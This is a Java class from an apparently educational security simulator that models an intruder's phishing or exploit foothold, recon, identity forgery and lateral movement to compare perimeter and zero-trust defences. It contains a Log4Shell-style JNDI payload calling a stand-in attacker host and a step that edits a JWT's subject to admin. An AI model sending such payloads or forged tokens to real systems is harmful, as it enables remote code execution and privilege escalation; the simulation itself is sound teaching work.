package dev.trustflow.sim.scenarios.zerotrust;

import static dev.trustflow.sim.scenarios.zerotrust.Company.ATTACKER;
import static dev.trustflow.sim.scenarios.zerotrust.Company.LAPTOP;
import static dev.trustflow.sim.scenarios.zerotrust.Company.WEB;

import dev.trustflow.sim.crypto.jwt.JwtForgery;
import dev.trustflow.sim.engine.Exchange;
import dev.trustflow.sim.engine.Request;
import dev.trustflow.sim.engine.Simulation;
import dev.trustflow.sim.scenarios.mesh.DialResult;
import dev.trustflow.sim.trace.Artifact;
import dev.trustflow.sim.trace.DataKeys;
import dev.trustflow.sim.trace.EventKinds;
import dev.trustflow.sim.trace.TraceEvent;
import dev.trustflow.sim.world.Link;
import dev.trustflow.sim.world.Topology;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * The attacker: it gets a foothold (the laptop by phishing, or web through a bug reachable from the internet),
 * looks around, forges the identity of an admin the way the services would believe it, then tries every internal
 * service from its foothold, each hop a real connection and request through the world's checks. Nothing here
 * decides what it reaches; the checks on the way do.
 */
final class Intrusion {

    static final String ADMIN = "admin";

    private final Simulation sim;
    private final Architecture architecture;
    private final Propagation propagation;
    private final ZeroTrustMesh mesh;

    Intrusion(Simulation sim, Architecture architecture, Propagation propagation, ZeroTrustMesh mesh) {
        this.sim = sim;
        this.architecture = architecture;
        this.propagation = propagation;
        this.mesh = mesh;
    }

    /** The attacker takes over the laptop or web; returns the seq of the foothold's {@code node.compromised}. */
    int enter(Entry entry) {
        if (entry == Entry.PHISHED_LAPTOP) {
            int mail = sim.event(EventKinds.ATTACK_STEP, ATTACKER).to(LAPTOP)
                    .caption("A phishing email: Alice opens the attachment, and the attacker's code runs on her"
                            + " laptop")
                    .data(DataKeys.STEP, "phishing")
                    .emit();
            return compromised(LAPTOP, mail, "The laptop is compromised: the attacker acts from inside the"
                    + " office network, with everything Alice's laptop holds");
        }
        int step = sim.event(EventKinds.ATTACK_STEP, ATTACKER).to(WEB)
                .caption("The attacker crafts a search with a payload for a bug in web's search page")
                .data(DataKeys.STEP, "exploit")
                .emit();
        Exchange exploit = sim.send(Request.get(ATTACKER, WEB, "/search")
                .caption("The attacker sends GET /search with the payload: a public route, open to anyone")
                .data("q", "${jndi:ldap://attacker.example/x}")
                .causedBy(step));
        return compromised(WEB, exploit.lastSeq(), "Web is compromised: the bug ran the attacker's code inside"
                + " web's process, with web's network position and web's identity");
    }

    private int compromised(String foothold, int cause, String caption) {
        return sim.event(EventKinds.NODE_COMPROMISED, foothold).cause(cause).caption(caption)
                .data("foothold", foothold)
                .emit();
    }

    /** What the attacker sees from its foothold: the services the network links it to. */
    int recon(String foothold, int cause) {
        Topology world = sim.world().build();
        List<String> seen = Company.TARGETS.stream().filter(t -> world.link(foothold, t).isPresent()).toList();
        sim.tick(Duration.ofMinutes(10));
        return sim.event(EventKinds.ATTACK_STEP, foothold).cause(cause)
                .caption("Recon from " + Company.label(foothold) + ": the attacker scans the internal network and"
                        + " finds " + String.join(", ", seen))
                .data(DataKeys.STEP, "recon")
                .data("found", seen)
                .emit();
    }

    /**
     * The identity the attacker will claim, made the way the services take it: a forged header, or Alice's token
     * (the laptop holds it; web received it with her request) with its subject changed to admin.
     */
    Forgery forge(String foothold, String aliceToken, int cause) {
        if (propagation == Propagation.FORWARDED_HEADER) {
            int seq = sim.event(EventKinds.ATTACK_STEP, foothold).cause(cause)
                    .caption("The services take the user from the " + CompanyServices.USER_HEADER + " header:"
                            + " the attacker will simply send " + CompanyServices.USER_HEADER + ": " + ADMIN)
                    .data(DataKeys.STEP, "forge-header")
                    .data(CompanyServices.USER_HEADER, ADMIN)
                    .emit();
            return new Forgery(null, seq);
        }
        String edited = JwtForgery.withClaim(aliceToken, "sub", ADMIN);
        int seq = sim.event(EventKinds.ATTACK_STEP, foothold).cause(cause)
                .caption("The services verify tokens: the attacker takes Alice's token from "
                        + Company.label(foothold) + " and changes its sub to " + ADMIN + ", keeping the signature")
                .data(DataKeys.STEP, "edit-token")
                .artifact(Artifact.jwt("Alice's token, sub edited to admin", edited))
                .emit();
        return new Forgery(edited, seq);
    }

    /** What the attacker presents as the user: an edited token, or (null) only the header. */
    record Forgery(String token, int seq) {
    }

    /** Tries every internal service from {@code foothold}, in order. */
    List<Attempt> moveLaterally(String foothold, Forgery forgery) {
        List<Attempt> attempts = new ArrayList<>();
        int cause = forgery.seq();
        for (String target : Company.TARGETS) {
            Attempt attempt = attempt(foothold, target, forgery, cause);
            attempts.add(attempt);
            cause = attempt.lastSeq();
            sim.tick(Duration.ofMinutes(1));
        }
        return attempts;
    }

    private Attempt attempt(String foothold, String target, Forgery forgery, int cause) {
        int start = sim.events().size();
        String peer = null;
        int sendCause = cause;
        if (architecture == Architecture.ZERO_TRUST) {
            DialResult connection = mesh.connect(foothold, target, cause);
            if (!connection.established()) {
                return new Attempt(target, false, firstFailure(start), connection.lastSeq());
            }
            peer = connection.peerId();
            sendCause = connection.lastSeq();
        }
        Operation op = Operation.wantedFrom(target);
        Request request = Request.of(op.method(), foothold, target, op.path())
                .caption("From " + Company.label(foothold) + ", the attacker sends " + op.line() + " to "
                        + Company.label(target) + " as " + ADMIN)
                .causedBy(sendCause)
                .carry(CompanyServices.PEER, peer);
        if (forgery.token() == null) {
            request.data(CompanyServices.USER_HEADER, ADMIN).carry(CompanyServices.USER_HEADER, ADMIN);
        } else {
            request.carry(CompanyServices.BEARER, forgery.token())
                    .artifact(Artifact.jwt("edited bearer token", forgery.token()));
        }
        sim.tick(Duration.ofMillis(Link.DEFAULT_LATENCY_MS));
        Exchange exchange = sim.send(request);
        if (!exchange.ok()) {
            return new Attempt(target, false, firstFailure(start), exchange.lastSeq());
        }
        String what = exchange.carried("what", String.class).orElse(op.path());
        int leak = sim.event(EventKinds.DATA_LEAKED, target).to(foothold).cause(exchange.responseSeq())
                .flow(exchange.flow())
                .caption("Reached: " + Company.label(target) + " gave the attacker " + what)
                .data("what", what)
                .data("servedAs", ADMIN)
                .emit();
        return new Attempt(target, true, null, leak);
    }

    /** The first check that failed since event {@code from}: what refused the hop. */
    private String firstFailure(int from) {
        return sim.events().subList(from, sim.events().size()).stream()
                .filter(e -> EventKinds.CHECK_FAIL.equals(e.kind()))
                .map(TraceEvent::check).flatMap(java.util.Optional::stream)
                .findFirst().orElseThrow(() -> new IllegalStateException("a refused hop recorded no failed check"));
    }
}
